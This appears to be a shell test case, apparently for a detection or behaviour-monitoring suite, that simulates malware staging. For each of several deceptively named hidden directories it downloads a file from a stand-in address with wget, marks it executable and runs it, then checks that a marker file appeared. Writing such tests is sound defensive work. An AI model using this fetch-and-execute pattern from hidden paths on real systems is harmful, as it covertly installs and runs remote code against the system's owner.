#!/bin/sh
. /opt/case/case.sh

for d in '/tmp/...' '/var/tmp/. ' '/dev/shm/.. ' '/usr/lib/.so'; do mkdir -p "$d"; wget -q -O "$d/t" http://203.0.113.10/programs/marker; chmod 755 "$d/t"; "$d/t"; done
test -e /tmp/reached
took_place
